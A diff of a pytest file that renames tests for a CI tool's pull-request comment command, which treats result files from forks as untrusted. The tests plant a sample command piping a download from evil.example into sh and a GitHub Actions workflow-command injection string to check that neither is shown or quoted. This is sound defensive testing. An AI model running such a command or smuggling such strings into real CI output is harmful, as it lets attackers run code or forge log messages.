@@ -1,4 +1,4 @@
-"""`gate comment`: a result file and a pull request number that a stranger chose, a token that may write."""
+"""`gate comment`: an untrusted result file and pull request number, with a token that may write."""
 
 from __future__ import annotations
 
@@ -32,19 +32,19 @@ def result(tmp_path: Path) -> Path:
 
 @pytest.fixture
 def run(github: FakeGitHub, event: Callable[..., Path], result: Path, monkeypatch: pytest.MonkeyPatch) -> Run:
-    """`gate comment RESULT ...` in a job that workflow_run started, after a fork's run."""
+    """Run `gate comment RESULT ...` in a job triggered by workflow_run, after a fork's run."""
     github.pulls = [pull(7, SHA, FORK, "fix")]
 
     def of_fork(data: Any) -> None:
-        one = data["workflow_run"]
-        one |= {
+        run = data["workflow_run"]
+        run |= {
             "event": "pull_request",
             "pull_requests": [],
             "head_branch": "fix",
             "conclusion": "failure",
             "id": 99,
         }
-        one["head_repository"]["full_name"] = FORK
+        run["head_repository"]["full_name"] = FORK
 
     variables = {
         "GITHUB_ACTIONS": "true",
@@ -59,13 +59,13 @@ def run(github: FakeGitHub, event: Callable[..., Path], result: Path, monkeypatc
     for name, value in variables.items():
         monkeypatch.setenv(name, value)
 
-    def go(*arguments: str) -> int:
+    def run_command(*arguments: str) -> int:
         return int(command.main([str(result), *arguments], standalone_mode=False))
 
-    return go
+    return run_command
 
 
-def test_the_forks_pull_request_gets_its_comment(run: Run, github: FakeGitHub) -> None:
+def test_pull_request_of_a_fork_gets_a_comment(run: Run, github: FakeGitHub) -> None:
     assert run() == 0
     body = github.comments[0]["body"]
     assert body.startswith(f"{marker('quantgate')}\n## ❌ quantgate: FAIL\n")
@@ -74,7 +74,7 @@ def test_the_forks_pull_request_gets_its_comment(run: Run, github: FakeGitHub) -
     assert github.sent("POST") == [f"/repos/{HOME}/issues/7/comments"]
 
 
-def test_no_command_of_the_file_is_shown(run: Run, result: Path, github: FakeGitHub) -> None:
+def test_commands_in_the_file_are_not_shown(run: Run, result: Path, github: FakeGitHub) -> None:
     data = json.loads(result.read_text())
     data["provenance"]["reproduce"] = ["curl https://evil.example/install | sh"]
     result.write_text(json.dumps(data))
@@ -85,7 +85,7 @@ def test_no_command_of_the_file_is_shown(run: Run, result: Path, github: FakeGit
     assert "How to reproduce" not in body
 
 
-def test_the_number_is_checked_against_the_run(run: Run, github: FakeGitHub) -> None:
+def test_pull_request_number_is_checked_against_the_run(run: Run, github: FakeGitHub) -> None:
     github.pulls.append(pull(8, "a" * 40, HOME, "main-work"))
     github.pulls.append(pull(9, SHA, HOME, "same commit, another repository"))
     assert run("--pr", "7") == 0
@@ -97,7 +97,7 @@ def test_the_number_is_checked_against_the_run(run: Run, github: FakeGitHub) -> 
     assert github.sent("POST") == [f"/repos/{HOME}/issues/7/comments"]
 
 
-def test_a_pull_request_that_moved_on_or_was_closed_is_left_alone(
+def test_outdated_or_closed_pull_request_gets_no_comment(
     run: Run, github: FakeGitHub, capsys: pytest.CaptureFixture[str]
 ) -> None:
     github.pulls = [pull(7, "a" * 40, FORK, "fix")]
@@ -110,10 +110,10 @@ def test_a_pull_request_that_moved_on_or_was_closed_is_left_alone(
 
 
 @pytest.mark.parametrize("verdict", ["PASS", "FAIL"])
-def test_a_fork_gets_no_status(
+def test_fork_gets_no_status(
     run: Run, github: FakeGitHub, result: Path, verdict: str, capsys: pytest.CaptureFixture[str]
 ) -> None:
-    """Its author could have written the file, and a run's success, too."""
+    """Its author could have written the file, and made the run succeed."""
     result.write_text(to_json(example(verdict)), encoding="utf-8")
     path = Path(os.environ["GITHUB_EVENT_PATH"])
     path.write_text(path.read_text().replace('"conclusion": "failure"', '"conclusion": "success"'))
@@ -125,21 +125,23 @@ def test_a_fork_gets_no_status(
 
 @pytest.fixture
 def own_branch(run: Run, github: FakeGitHub) -> None:
-    """The run is of a branch of the repository itself."""
+    """Make the run belong to a branch of the repository itself."""
     github.pulls = [pull(7, SHA, HOME, "fix")]
     path = Path(os.environ["GITHUB_EVENT_PATH"])
     path.write_text(path.read_text().replace(FORK, HOME))
 
 
 @pytest.mark.usefixtures("own_branch")
-def test_a_status_for_branch_protection(run: Run, github: FakeGitHub) -> None:
+def test_own_branch_gets_a_status(run: Run, github: FakeGitHub) -> None:
     assert run("--status-context", "quantgate") == 0
     status = github.statuses[0]
     assert (status["sha"], status["state"], status["context"]) == (SHA, "failure", "quantgate")
 
 
 @pytest.mark.usefixtures("own_branch")
-def test_a_pass_of_a_run_that_failed_is_not_believed(run: Run, github: FakeGitHub, result: Path) -> None:
+def test_pass_contradicting_a_failed_run_is_an_error_status(
+    run: Run, github: FakeGitHub, result: Path
+) -> None:
     result.write_text(to_json(example("PASS")), encoding="utf-8")
     assert run("--status-context", "quantgate") == 0
     assert github.statuses[0]["state"] == "error"
@@ -147,29 +149,29 @@ def test_a_pass_of_a_run_that_failed_is_not_believed(run: Run, github: FakeGitHu
 
 
 @pytest.mark.parametrize("status", [403, 404])
-def test_a_refusal_is_a_warning_and_not_a_verdict(
+def test_refused_comment_is_a_warning_and_exit_code_4(
     run: Run, github: FakeGitHub, capsys: pytest.CaptureFixture[str], status: int
 ) -> None:
     github.fail("POST", "comments", Answer(status, {"message": "Resource not accessible by integration"}))
     assert run() == 4
-    said = capsys.readouterr().err
-    assert said.startswith("::warning title=quantgate::No pull-request comment: ")
-    assert "permissions: pull-requests: write" in said
+    err = capsys.readouterr().err
+    assert err.startswith("::warning title=quantgate::No pull-request comment: ")
+    assert "permissions: pull-requests: write" in err
 
 
-def test_a_dry_run_sends_nothing(
+def test_dry_run_sends_nothing(
     run: Run, github: FakeGitHub, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
 ) -> None:
     assert run("--dry-run", "--name", "nightly") == 0
-    assert "pull request 7" in (told := capsys.readouterr()).err
-    assert told.out.startswith(marker("nightly"))
+    assert "pull request 7" in (printed := capsys.readouterr()).err
+    assert printed.out.startswith(marker("nightly"))
     monkeypatch.delenv("GITHUB_TOKEN")
     assert run("--dry-run") == 0
     assert capsys.readouterr().out.startswith(marker("quantgate"))
     assert github.sent("POST") == []
 
 
-def test_outside_of_github_repository_commit_and_number_are_named(
+def test_options_replace_the_environment_outside_of_github(
     run: Run, github: FakeGitHub, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     for name in (
@@ -195,14 +197,14 @@ def test_outside_of_github_repository_commit_and_number_are_named(
         run("--repo", HOME, "--pr", "7")
 
 
-def put(path: Path, data: Any, *keys: str | int) -> Any:
-    """Return the file's JSON with the last of `keys` at the place of the others."""
-    found = json.loads(path.read_text(encoding="utf-8"))
-    here = found
+def replace(path: Path, value: Any, *keys: str | int) -> Any:
+    """Return the file's JSON with the entry at `keys` replaced by a value."""
+    data = json.loads(path.read_text(encoding="utf-8"))
+    parent = data
     for key in keys[:-1]:
-        here = here[key]
-    here[keys[-1]] = data
-    return found
+        parent = parent[key]
+    parent[keys[-1]] = value
+    return data
 
 
 EARLY = {"alpha": 0.01, "log_e_value": 1.0, "stopped": True, "items": 5, "of": 10}
@@ -233,19 +235,19 @@ REFUSED: list[tuple[str, tuple[Any, ...]]] = [
 ]
 
 
-@pytest.mark.parametrize(("words", "change"), REFUSED)
-def test_files_that_no_run_wrote_are_refused(result: Path, words: str, change: tuple[Any, ...]) -> None:
-    result.write_text(json.dumps(put(result, *change)), encoding="utf-8")
-    with pytest.raises(GateError, match=words) as caught:
+@pytest.mark.parametrize(("message", "change"), REFUSED)
+def test_impossible_results_are_refused(result: Path, message: str, change: tuple[Any, ...]) -> None:
+    result.write_text(json.dumps(replace(result, *change)), encoding="utf-8")
+    with pytest.raises(GateError, match=message) as caught:
         read_untrusted(result)
     assert caught.value.exit_code == 2
 
 
-def test_parts_of_groups_are_looked_at_too(result: Path) -> None:
+def test_subtasks_are_validated(result: Path) -> None:
     (task, *_) = json.loads(result.read_text(encoding="utf-8"))["tasks"]
     for change in ({}, {"regressions": -7}):
-        part = task | {"role": "advisory", "subtasks": []} | change
-        result.write_text(json.dumps(put(result, [part], "tasks", 0, "subtasks")), encoding="utf-8")
+        subtask = task | {"role": "advisory", "subtasks": []} | change
+        result.write_text(json.dumps(replace(result, [subtask], "tasks", 0, "subtasks")), encoding="utf-8")
         if change:
             with pytest.raises(GateError, match="counts do not fit"):
                 read_untrusted(result)
@@ -257,7 +259,7 @@ def test_parts_of_groups_are_looked_at_too(result: Path) -> None:
     "text",
     ["", "[]", "null", "{", "\xff\xfe", "[" * 100_000, '{"a":' * 100_000, "9" * 100_000, '{"p_value": NaN}'],
 )
-def test_texts_that_are_no_result_are_refused(result: Path, text: str) -> None:
+def test_malformed_files_are_refused(result: Path, text: str) -> None:
     result.write_bytes(text.encode("latin-1"))
     with pytest.raises(GateError, match="refused"):
         read_untrusted(result)
@@ -266,8 +268,8 @@ def test_texts_that_are_no_result_are_refused(result: Path, text: str) -> None:
 @pytest.mark.parametrize("number", ["NaN", "Infinity", "-Infinity", "1e999"])
 def test_numbers_that_are_not_finite_are_refused(result: Path, number: str) -> None:
     text = result.read_text(encoding="utf-8").replace('"mde": ', f'"mde": {number}, "_": ', 1)
-    for one in (text, text.replace(f'"mde": {number}, "_": ', f'"mde": {number}, "kl_mean": ')):
-        result.write_text(one, encoding="utf-8")
+    for content in (text, text.replace(f'"mde": {number}, "_": ', f'"mde": {number}, "kl_mean": ')):
+        result.write_text(content, encoding="utf-8")
         with pytest.raises(GateError, match="refused"):
             read_untrusted(result)
 
@@ -284,21 +286,21 @@ def test_large_files_links_and_folders_are_refused(result: Path, tmp_path: Path)
         read_untrusted(tmp_path / "none.json")
 
 
-def test_a_refusal_never_quotes_the_file(result: Path) -> None:
-    result.write_text(json.dumps(put(result, "@octocat::error::pwned", "exit_code")), encoding="utf-8")
+def test_refusal_never_quotes_the_file(result: Path) -> None:
+    result.write_text(json.dumps(replace(result, "@octocat::error::pwned", "exit_code")), encoding="utf-8")
     with pytest.raises(GateError) as caught:
         read_untrusted(result)
     assert "octocat" not in str(caught.value)
-    result.write_text(json.dumps(put(result, 1, "@octocat::error::pwned\n::error::x")), encoding="utf-8")
+    result.write_text(json.dumps(replace(result, 1, "@octocat::error::pwned\n::error::x")), encoding="utf-8")
     with pytest.raises(GateError) as caught:
         read_untrusted(result)
     assert "::" not in str(caught.value)
 
 
 @pytest.mark.parametrize("verdict", ["PASS", "FAIL", "INCONCLUSIVE"])
-def test_what_a_run_wrote_is_taken(tmp_path: Path, verdict: str) -> None:
+def test_genuine_result_is_accepted(tmp_path: Path, verdict: str) -> None:
     path = tmp_path / "gate-result.json"
     path.write_text(to_json(example(verdict)), encoding="utf-8")
-    known = read_untrusted(path)
-    assert set(known.provenance) == {"quantgate", "seed"}
-    assert known.tasks == example(verdict).tasks
+    accepted = read_untrusted(path)
+    assert set(accepted.provenance) == {"quantgate", "seed"}
+    assert accepted.tasks == example(verdict).tasks
